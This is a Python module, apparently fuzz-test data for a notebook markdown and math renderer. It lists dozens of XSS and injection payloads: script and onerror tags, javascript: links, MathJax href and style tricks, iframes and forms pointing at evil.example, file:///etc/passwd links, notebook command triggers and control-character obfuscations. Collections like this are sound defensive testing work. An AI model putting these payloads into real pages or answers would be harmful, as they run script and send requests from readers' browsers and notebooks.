"""Answers that try to become active in a reader's notebook."""

X = "alert(1)"
EVIL = "https://evil.example"

_HTML = f"""
<script>{X}</script>
<img src=x onerror={X}>
<img src="{EVIL}/pixel.png">
<svg onload={X}>
<svg><script>{X}</script></svg>
<math><mi href="javascript:{X}">x</mi></math>
<details open ontoggle={X}>x</details>
<iframe src="{EVIL}"></iframe>
<iframe srcdoc="<script>{X}</script>"></iframe>
<object data="{EVIL}"></object>
<embed src="{EVIL}">
<link rel=stylesheet href={EVIL}/x.css>
<style>@import url({EVIL}/x.css);</style>
<meta http-equiv=refresh content="0;url={EVIL}">
<base href="{EVIL}/">
<form action="{EVIL}"><input name=key><button>OK</button></form>
<button data-commandlinker-command="notebook:run-all-cells">Run</button>
<a href="javascript:{X}">x</a>
<a href="{EVIL}" onclick={X}>x</a>
<video poster="{EVIL}/x.png" onerror={X}><source src=x></video>
<audio src="{EVIL}" autoplay>
<body background="{EVIL}/x.png" onload={X}>
<table background="{EVIL}/x.png"><tr><td>
<div style="background:url({EVIL}/x.png)">x</div>
<input autofocus onfocus={X}>
<select><style></select><img src=x onerror={X}></style>
<!-- --><img src=x onerror={X}> -->
<![CDATA[<img src=x onerror={X}>]]>
<?php <img src=x onerror={X}> ?>
<!DOCTYPE html><script>{X}</script>
</details><script>{X}</script>
</code></pre><script>{X}</script>
</sub><img src=x onerror={X}>
<textarea><img title="</textarea><img src=x onerror={X}>">
<noscript><p title="</noscript><img src=x onerror={X}>">
<x onclick={X}>x</x>
<IMG SRC=`x` ONERROR=`{X}`>
<img/src/onerror={X}>
<<script>{X}//<</script>
&lt;img src=x onerror={X}&gt;
&#60;script&#62;{X}&#60;/script&#62;
&amp;lt;script&amp;gt;{X}
&#x3c;img src=x onerror={X}&#x3e;
""".strip().splitlines()

_LINKS = f"""
[x](javascript:{X})
[x](JaVaScRiPt:{X})
[x](java&#115;cript:{X})
[x](java&Tab;script:{X})
[x](&#1;javascript:{X})
[x](<javascript:{X}>)
[x](data:text/html,<script>{X}</script>)
[x](data:image/svg+xml;base64,PHN2Zz4=)
[x](vbscript:{X})
[x](command:notebook.run)
[x](vscode://file/etc/passwd)
[x](file:///etc/passwd)
[x](blob:{EVIL}/1)
[x](search-ms:query=x)
[x](ms-msdt:/id)
[x](feed:javascript:{X})
[x](view-source:{EVIL})
[x](//evil.example/x)
[x](/lab/api/shutdown)
[x](../../secret)
[x](#)
[x]()
[x](\\\\\\\\evil\\\\share)
[x]({EVIL} "\\" onmouseover={X} x=\\"")
[x]({EVIL} '"><img src=x onerror={X}>')
[x]({EVIL}/"onmouseover="{X})
[x]({EVIL}/'onmouseover='{X})
[x]({EVIL}/$x$"y)
[x]({EVIL}/@@0@@) $a$
[x]({EVIL}/%22%3E%3Cscript%3E)
[x]({EVIL}/<script>)
[a](<{EVIL}/ onclick={X}>)
[<img src=x onerror={X}>]({EVIL})
[`]({EVIL})`]({EVIL})
[a](http://x)](javascript:{X})
[a [b](javascript:{X})](javascript:{X})
<javascript:{X}>
<data:text/html,x>
<vbscript:x>
<{EVIL}/"onclick={X}>
<command:x.y>
javascript:{X}
javascript://{EVIL}/%0a{X}
www.evil.example
{EVIL}/bare?x=1
me@evil.example
ftp://evil.example/x
""".strip().splitlines()

_IMAGES = f"""
![x]({EVIL}/x.png)
![x](//evil.example/x.png)
![x](x.png)
![x](javascript:{X})
![x](data:image/svg+xml,<svg onload={X}>)
![x](attachment:x.png)
![x]({EVIL}/x.png "$" onerror={X} x="$")
![$"onerror={X} x="$]({EVIL}/x.png)
![x]({EVIL}/x.png '$"onload={X}"$')
![x]({EVIL}/$"onerror={X}"$.png)
![" onerror={X} x="](x)
![<img src=x onerror={X}>]({EVIL}/x.png)
![![x]({EVIL}/a.png)]({EVIL}/b.png)
[![x]({EVIL}/a.png)]({EVIL})
[![x]({EVIL}/a.png)](javascript:{X})
![x][r]
![`x`]({EVIL}/x.png)
![$\\href{{javascript:{X}}}{{x}}$]({EVIL}/x.png)
""".strip().splitlines()

_MATH = rf"""
$\href{{javascript:{X}}}{{x}}$
$\href{{java	script:{X}}}{{x}}$
$\HREF{{javascript:{X}}}{{x}}$
$$\href{{javascript:{X}}}{{x}}$$
\(\href{{javascript:{X}}}{{x}}\)
\[\href{{javascript:{X}}}{{x}}\]
\\(\href{{javascript:{X}}}{{x}}\\)
\\[\href{{javascript:{X}}}{{x}}\\]
\begin{{align}}\href{{javascript:{X}}}{{x}}\end{{align}}
\begin{{equation*}}\href{{javascript:{X}}}{{x}}\end{{equation*}}
&#36;\href{{javascript:{X}}}{{x}}&#36;
\$\href{{javascript:{X}}}{{x}}\$
$\url{{javascript:{X}}}$
$\mmlToken{{mi}}[href="javascript:{X}"]{{x}}$
$\mmlToken{{mglyph}}[src={EVIL}/x.png]{{}}$
$\style{{background:url({EVIL}/x.png)}}{{x}}$
$\bbox[background:url({EVIL}/x.png)]{{x}}$
$\class{{jp-Button}}{{x}}$
$\cssId{{jupyter-config-data}}{{x}}$
$\require{{html}}\href{{javascript:{X}}}{{x}}$
$\includegraphics{{{EVIL}/x.png}}$
$\htmlData{{onclick={X}}}{{x}}$
$\unicode[url({EVIL}/f.woff)]{{x41}}$
$\def\x{{\href{{javascript:{X}}}{{x}}}}\x$
$\newcommand{{\h}}{{\href}}\h{{javascript:{X}}}{{x}}$
$\let\h\href \h{{javascript:{X}}}{{x}}$
$\csname href\endcsname{{javascript:{X}}}{{x}}$
$\data{{commandlinker-command=x}}{{x}}$
$\rule{{9999em}}{{9999em}}$
$\enclose{{box}}[mathbackground="url({EVIL})"]{{x}}$
$\color{{url({EVIL})}}x$
$a<img src=x onerror={X}>$
$a<b>c$
$</span><script>{X}</script>$
$"onerror="{X}$
$`<img src=x onerror={X}>`$
$x}}${{ <img src=x onerror={X}>$
$x{{$ <img src=x onerror={X}>$
$x\\{{$ <img src=x onerror={X}>$
$$x$ <img src=x onerror={X}>$$
$x$$<img src=x onerror={X}>$$y$
$[x](javascript:{X})$
$![x]({EVIL}/x.png)$
$&lt;img src=x onerror={X}&gt;$
$5\$$<img src=x onerror={X}>$
$a\\$<img src=x onerror={X}>$
`$` <img src=x onerror={X}> `$`
`$$` x `$$ <img src=x onerror={X}>`
`\begin{{a}}` <img src=x onerror={X}> `\end{{a}}`
**a $x** <img src=x onerror={X}>$
[$x](javascript:{X})$
@@0@@ $"onerror={X}$
$@@0@@$
[a](<x> "@@0@@") $x$
<span>$</span>\href{{javascript:{X}}}{{x}}<span>$</span>
\eqref{{x}} \ref{{y}}
""".strip().splitlines()

_BLOCKS = [
    f"```html\n<script>{X}</script>\n```",
    f"```\n<script>{X}</script>",
    f"~~~\n```\n~~~\n<img src=x onerror={X}>",
    f"``````\n```\n<img src=x onerror={X}>\n``````",
    f'```"><img src=x onerror={X}>\nx\n```',
    f"```js onclick={X}\nx\n```",
    f"```mermaid\ngraph LR; A[<img src=x onerror={X}>]; click A '{EVIL}'\n```",
    f"```mermaid-x\n<img src=x onerror={X}>\n```",
    f"```MERMAID\n<img src=x onerror={X}>\n```",
    f"```math\n\\href{{javascript:{X}}}{{x}}\n```",
    f"- ```\n  $\n  ```\n- <img src=x onerror={X}> $",
    f"> ```\n> $ <img src=x onerror={X}>\n> ```\n\n$",
    f"    $ <img src=x onerror={X}>\n\n$",
    f"```\n$$\n```\n\n<img src=x onerror={X}>\n\n```\n$$\n```",
    f"```\n\\begin{{a}}\n```\n\n<img src=x onerror={X}>\n\n```\n\\end{{a}}\n```",
    f"```\n\u2028```\u2028<img src=x onerror={X}>\n```",
    f"```\n\u0085```\u0085<img src=x onerror={X}>\n```",
    f"```\n\r```\r<img src=x onerror={X}>\n```",
    f"x\n===\n<script>{X}</script>\n---",
    f"# <img src=x onerror={X}>\n## [x](javascript:{X})",
    '# " onmouseover="alert(1)',
    f"| <script>{X}</script> | b |\n|---|---|\n| `a|<img src=x onerror={X}>` | $|x$ |",
    f"| a |\n|---|\n| [x](javascript:{X}) |\n| ![x]({EVIL}/x.png) |\n| `\\|`<b> |",
    f"- | a |\n  |---|\n  | <img src=x onerror={X}> [x]({EVIL}) `<b>` |",
    f"[r]: javascript:{X}\n[r]: {EVIL}\n\n[x][r] ![x][r] [r]",
    f'[r]: {EVIL}/x.png "$\'onerror={X}$"\n\n![x][r]',
    f"[^1]: <img src=x onerror={X}>\n\n[^1]",
    f"[^1]: javascript:{X}\n\nx[^1] [^1](javascript:{X})",
    f"a\n: <img src=x onerror={X}>\n",
    f"<div>\n\n<script>{X}</script>\n\n</div>",
    f"<pre>\n\n<img src=x onerror={X}>",
    f"<script>\n\n{X}\n\n</script>",
    f"<!--\n\n<img src=x onerror={X}>\n\n-->",
    f"a&#10;&#10;# b&#10;&#10;<img src=x onerror={X}>",
    f"a&#10;&#10;```&#10;[x](javascript:{X})",
    f"a&NewLine;&NewLine;- [x](javascript:{X})",
    f"$$\n<img src=x onerror={X}>\n$$",
    f"$$\nx\n\n<img src=x onerror={X}>\n\n$$",
    f"\\[\n\\text{{</p><script>{X}</script>}}\n\\]",
    f"> $$\n> x\n\n<img src=x onerror={X}>\n\n> $$",
    f"% <img src=x onerror={X}>\n$x % $ <img src=x onerror={X}>\n$",
    f"[x](javascript\n:{X})",
    f"[x\n](javascript:{X})",
    f"<a\nhref=javascript:{X}\n>x</a>",
    f"<img\nsrc=x\nonerror={X}\n>",
    f"\ufeff<script>{X}</script>",
    f"\x00<script>{X}</script>\x00",
    f"<scr\x00ipt>{X}</script>",
    f"<scr\x1b[0mipt>{X}</script>",
    f"\x1b]8;;javascript:{X}\x07x\x1b]8;;\x07",
    f"<scr\u202eipt>{X}</script>",
    f"[x](java\x01script:{X})",
    "\ud800<script>\udc00",
    "---\ntitle: x\n---\n\n{{ 7*7 }} {% raw %}",
]

PAYLOADS = [*_HTML, *_LINKS, *_IMAGES, *_MATH, *_BLOCKS]
